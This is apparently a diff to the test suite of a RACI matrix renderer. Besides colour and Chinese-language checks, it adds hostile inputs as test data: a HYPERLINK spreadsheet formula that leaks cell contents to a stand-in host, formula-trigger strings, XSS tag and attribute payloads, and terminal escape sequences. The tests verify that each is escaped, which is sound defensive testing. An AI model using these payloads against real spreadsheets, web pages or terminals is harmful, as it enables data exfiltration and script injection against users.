@@ -22,6 +22,7 @@ from raci._text import display_width
 from raci.render._matrix_text import fit, fit_all
 from raci.render.matrix import MatrixWidthWarning, render_matrix
 from raci.render.matrix_table import build_matrix
+from raci.schemes import BUILTIN_SCHEMES
 from strategies import organizations
 
 DATA = Path(__file__).resolve().parent.parent / "data" / "sheets"
@@ -478,8 +479,8 @@ class TestHtml:
         assert len([t for t in tags if t[0] == "td"]) == 4 * 6
         role_cells = [a["class"] for t, a in tags if t == "td" and a.get("class")]
         assert role_cells.count("x1") == 3  # A alone, in scheme position 1
-        assert role_cells.count("x0") == 5  # R first: four times R, once R/A
-        assert 'class="x0">R/A</td>' in html
+        assert role_cells.count("x0") == 4  # R alone
+        assert 'class="x1 y0">R/A</td>' in html  # coloured as A, with a stripe of R
 
     def test_self_contained(self, acme: raci.Organization) -> None:
         """No scripts or fetches; sticky header and a print stylesheet."""
@@ -563,7 +564,11 @@ class TestXlsx:
         assert ws.row_dimensions[3].height == 100  # room for "Chief Executive" turned up
         assert [c.value for c in ws[6]] == ["forecast", "Forecast", "Planning", None,
                                             None, None, None, "C", "R/A", None]  # fmt: skip
-        assert ws["I6"].fill.fgColor.rgb == "009FD8A4"  # R/A coloured as R
+        assert ws["I6"].fill.fgColor.rgb == "00F4A3A3"  # R/A coloured as A ...
+        assert ws["I6"].border.bottom.color.rgb == "003F9A48"  # ... with a stripe of R
+        assert ws["I6"].border.bottom.style == "thick"
+        assert ws["G7"].fill.fgColor.rgb == "009FD8A4"  # R
+        assert ws["G7"].border.bottom.style is None
         assert ws["E4"].fill.fgColor.rgb == "00F4A3A3"  # A
         assert ws["H6"].fill.fgColor.rgb == "00A9C8F0"  # C
         assert ws.column_dimensions["B"].width == 12
@@ -582,8 +587,12 @@ class TestXlsx:
             ("I", "Informed", None),
         ]
         assert ws["A3"].fill.fgColor.rgb == "00F4A3A3"
-        assert rows[6] == ("Column", "Party", "Name")
-        assert rows[7] == ("E", "ceo", "Chief Executive")
+        assert rows[5][0] == "R/A"
+        assert rows[5][1].startswith("A cell with several roles takes the colour of Accountable")
+        assert ws["A6"].fill.fgColor.rgb == "00F4A3A3"
+        assert ws["A6"].border.bottom.color.rgb == "003F9A48"
+        assert rows[7] == ("Column", "Party", "Name")
+        assert rows[8] == ("E", "ceo", "Chief Executive")
 
     def test_formula_injection_and_control_characters(self) -> None:
         """Formula-like names are text with a leading apostrophe; control characters go."""
@@ -794,3 +803,185 @@ class TestRoundTrip:
         out = tmp_path / "m.xlsx"
         render_matrix(org, out)
         assert assignments(raci.load(out, org=org)) == assignments(org)
+
+
+#: Role letters and role names that try to break out of every format.
+EVIL_LETTERS = (
+    '=HYPERLINK("http://x/?"&A1,"y")',
+    "+1",
+    "@SUM(1)",
+    "<img src=x onerror=alert(1)>",
+    "|",
+    "\x1b]8;;http://evil.example\x07",
+    "bell\x07\x00",
+)
+
+
+def hostile_letters() -> raci.Organization:
+    """Acme with a deliverable whose letters are not role letters, and a custom scheme whose
+    role names hold terminal escapes and tags."""
+    org = raci.load(ACME)
+    odd = raci.Deliverable(
+        "odd",
+        raci.Names.plain("[80cm] *starred* row 🚀\x1b[31m"),
+        assignments=tuple(
+            raci.Assignment("odd", letter, party)
+            for letter, party in zip(
+                EVIL_LETTERS, ["ceo", "ops", "fin", "board", "ship", "clerk", "acme"], strict=True
+            )
+        ),
+    )
+    scheme = raci.Scheme(
+        "Mine",
+        (
+            raci.Role("R", "\x1b[31mRed\x1b[0m <b>doer</b>", 1, None, "responsible"),
+            raci.Role("A", 'Owner "quoted" | piped', 1, 1, "accountable"),
+        ),
+    )
+    return attrs.evolve(org, scheme=scheme, deliverables={**org.deliverables, "odd": odd})
+
+
+class TestHostileLetters:
+    """Letters and role names are escaped like any other text, flagged by validate or not."""
+
+    def test_xlsx(self) -> None:
+        """No letter becomes a formula; control characters do not crash the writer."""
+        data = render_matrix(hostile_letters(), format="xlsx")
+        assert isinstance(data, bytes)
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
+        assert all(c.data_type != "f" for c in cells)
+        values = {c.value for c in cells}
+        assert {'\'=HYPERLINK("http://x/?"&A1,"y")', "'+1", "'@SUM(1)", "bell"} <= values
+        assert not [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "@")]
+
+    def test_markdown(self) -> None:
+        """No raw tag, and a `|` letter does not split its cell."""
+        text = str(render_matrix(hostile_letters(), format="md"))
+        assert not re.search(r"(?<!\\)<", text)
+        assert r"\<img src=x onerror=alert(1)\>" in text
+        row = next(line for line in text.splitlines() if "80cm" in line)
+        assert len(re.findall(r"(?<!\\)\|", row)) == 2 + len(
+            build_matrix(hostile_letters()).columns
+        )
+        assert "\x1b" not in text
+        assert "\x07" not in text
+
+    def test_terminal(self) -> None:
+        """No escape sequence reaches the terminal, from letters or role names."""
+        text = str(render_matrix(hostile_letters(), width=300))
+        assert "\x1b" not in text
+        assert "\x07" not in text
+        assert "\x00" not in text
+        assert "\ufffd[31mRed\ufffd[0m <b>doer</b>" in text
+
+    def test_html(self) -> None:
+        """Letters and role names are text, never tags."""
+        html = str(render_matrix(hostile_letters(), format="html"))
+        tags = TestHtml().parse(html).tags
+        assert "img" not in {t for t, _ in tags}
+        assert "&lt;img src=x onerror=alert(1)&gt;" in html
+        assert "&lt;b&gt;doer&lt;/b&gt;" in html
+        assert "Owner &quot;quoted&quot; | piped" in html
+
+    def test_tex(self) -> None:
+        """A row starting with `[` or `*` is no argument of `\\\\`; no control characters or
+        emoji in the file."""
+        tex = str(render_matrix(hostile_letters(), format="tex"))
+        assert r"\\[" not in tex.replace(" ", "").replace("\n", "")
+        assert r"{[}80cm{]} *starred* row" in tex
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", tex)
+        assert "🚀" not in tex
+        starred = attrs.evolve(
+            hostile_letters(),
+            deliverables={
+                "s": raci.Deliverable(
+                    "s", raci.Names.plain("*star"), assignments=(raci.Assignment("s", "A", "ceo"),)
+                )
+            },
+        )
+        assert "\n{}*star & " in str(render_matrix(starred, format="tex"))
+
+
+class TestHtmlAttributes:
+    """Titles, division headings and group headings cannot open a tag or an attribute."""
+
+    ORG = """
+    version: 1
+    units:
+      - id: top
+        name: Top
+        units:
+          - id: div
+            name: '"><b onmouseover=alert(1)>Division'
+            units:
+              - {id: a, name: 'Unit "A" onmouseover="alert(2)'}
+              - {id: b, name: Unit B}
+          - {id: c, name: Unit C}
+    groups:
+      - {id: g, name: '<i onclick=alert(3)>Group</i>'}
+    deliverables:
+      - {id: d, name: 'Row "quoted"', group: g, raci: {A: a, R: b, C: c}}
+    """
+
+    def test_attributes(self) -> None:
+        html = str(render_matrix(loads(self.ORG), format="html"))
+        tags = TestHtml().parse(html).tags
+        allowed = {
+            "class",
+            "title",
+            "colspan",
+            "rowspan",
+            "scope",
+            "lang",
+            "charset",
+            "name",
+            "content",
+        }
+        assert {k for _, attrs_ in tags for k in attrs_} <= allowed
+        assert 'title="Unit &quot;A&quot; onmouseover=&quot;alert(2) (a)"' in html
+        assert "&lt;i onclick=alert(3)&gt;Group&lt;/i&gt;" in html
+        assert "><div>&quot;&gt;&lt;b onmouseover=alert(1)&gt;Division</div></th>" in html
+        assert 'title="&quot;&gt;&lt;b onmouseover=alert(1)&gt;Division"' in html
+
+
+class TestWords:
+    """The matrix's fixed words in its language."""
+
+    def test_chinese(self, acme: raci.Organization) -> None:
+        md = str(render_matrix(acme, format="md", lang="zh"))
+        assert md.startswith("# 责任矩阵：阿克米\n")
+        assert "| 交付成果 | 首席执行官 |" in md
+        assert "| 字母 | 角色 |" in md
+        assert "| R | 负责 |\n| A | 批准 |\n| C | 咨询 |\n| I | 知会 |" in md
+        html = str(render_matrix(acme, format="html", lang="zh"))
+        assert "<title>责任矩阵：阿克米</title>" in html
+        assert '<th class="corner" rowspan="3">交付成果</th>' in html
+        assert "外部相关方" in html
+        text = str(render_matrix(acme, lang="zh", width=200))
+        assert "R 负责  A 批准  C 咨询  I 知会" in text
+        tex = str(render_matrix(acme, format="tex", lang="zh"))
+        assert r"\small 交付成果" in tex
+        assert r"\usepackage{CJKutf8}" in tex
+        data = render_matrix(acme, format="xlsx", lang="zh")
+        assert isinstance(data, bytes)
+        legend = openpyxl.load_workbook(io.BytesIO(data))["Legend"]
+        assert [c.value for c in legend[1]][:2] == ["字母", "角色"]
+
+    @pytest.mark.parametrize(
+        ("scheme", "names"),
+        [
+            ("DACI", "D 推动  A 审批  C 贡献  I 知会"),
+            ("RASCI", "R 负责  A 批准  S 支持  C 咨询  I 知会"),
+            ("RACI-VS", "R 负责  A 批准  C 咨询  I 知会  V 核实  S 签署"),
+            ("CAIRO", "R 负责  A 批准  C 咨询  I 知会  O 不参与"),
+        ],
+    )
+    def test_builtin_schemes(self, acme: raci.Organization, scheme: str, names: str) -> None:
+        org = attrs.evolve(acme, scheme=BUILTIN_SCHEMES[scheme])
+        assert names in str(render_matrix(org, lang="zh", width=300))
+
+    def test_custom_scheme_keeps_its_names(self) -> None:
+        text = str(render_matrix(hostile_letters(), lang="zh", width=300))
+        assert 'Owner "quoted" | piped' in text
+        assert "交付成果" in text
